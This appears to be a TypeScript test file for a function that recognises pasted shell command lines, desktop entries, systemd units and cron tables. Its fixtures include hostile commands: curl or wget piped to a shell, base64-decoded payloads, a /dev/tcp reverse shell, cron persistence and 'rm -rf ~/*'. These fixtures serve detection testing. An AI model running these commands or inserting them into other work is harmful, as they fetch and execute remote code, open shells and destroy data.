import assert from "node:assert/strict";
import test from "node:test";
import { commandsOf } from "./command-lines.ts";

const pasted = [
  "curl -s http://example.test/x.sh | sh",
  "curl -fsSL https://example.test/install | sudo bash -s -- --yes",
  "wget -qO- example.test/a | bash &",
  "$ curl example.test | python3 -",
  "user@host:~$ wget http://example.test/a -O /tmp/a; chmod +x /tmp/a; /tmp/a",
  'bash -c "$(curl -fsSL https://example.test/x)"',
  "bash <(curl -s example.test/x)",
  "python3 -c 'import os; os.system(\"id\")'",
  "perl -e 'print 1'",
  "node -e 'console.log(1)'",
  "echo aWQK | base64 -d | sh",
  "base64 --decode <<< aWQK | bash",
  "cd /tmp && curl -O http://example.test/a && sh a",
  "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
  "nohup /tmp/.x/run >/dev/null 2>&1 &",
  "(crontab -l; echo '* * * * * /tmp/x') | crontab -",
  "sudo npm install left-pad",
  "rm -rf ~/*",
  "export A=1\ncurl http://example.test/a \\\n  | sh\n# done\n",
];
for (const text of pasted)
  test(`commands: ${text}`, () => assert.equal(commandsOf(text)?.kind, "command lines"));

const prose = [
  "hello",
  "Please run curl and tell me what it says.",
  "To install, type:\ncurl http://example.test | sh\n",
  "# Title\n\nSome words about wget http://example.test\n",
  "curl http://example.test/words",
  "ls -la\ncat /etc/passwd\n",
  "* an item\n* another item\n",
  "2024 was a good year\n",
  "name=value\nother=thing\n",
  "#!/bin/sh\ncurl x | sh\n",
  "a | b | c\n--|--|--\n1 | sh | 2\n",
  `curl x | sh\n${"line of a long document\n".repeat(30)}`,
];
for (const text of prose)
  test(`no commands: ${JSON.stringify(text.slice(0, 60))}`, () => assert.equal(commandsOf(text), null));

test("Exec lines of desktop entries, units and tables of cron", () => {
  const desktop =
    "[Desktop Entry]\nType=Application\nExec=/opt/x --open %U\n[Desktop Action new]\nExec=/opt/x 50%% %f\n[Other]\nExec=no\n";
  assert.deepEqual(commandsOf(desktop), { kind: "desktop entry", lines: ["/opt/x --open", "/opt/x 50%"] });
  const unit =
    "[Unit]\nDescription=x\n[Service]\nExecStart=/opt/run \\\n  --fast\nExecStartPre=-/bin/mkdir -p /tmp/x\n[Install]\nWantedBy=multi-user.target\n";
  assert.deepEqual(commandsOf(unit), {
    kind: "systemd unit",
    lines: ["/bin/mkdir -p /tmp/x", "/opt/run    --fast"],
  });
  const cron =
    "# table\nSHELL=/bin/sh\n*/5 * * * * root curl -s http://example.test | sh\n@reboot ~/.x/run\n0 3 * * 1-5 date +\\%F%input\n";
  assert.deepEqual(commandsOf(cron), {
    kind: "cron table",
    lines: ["curl -s http://example.test | sh", "~/.x/run", "date +%F"],
  });
});
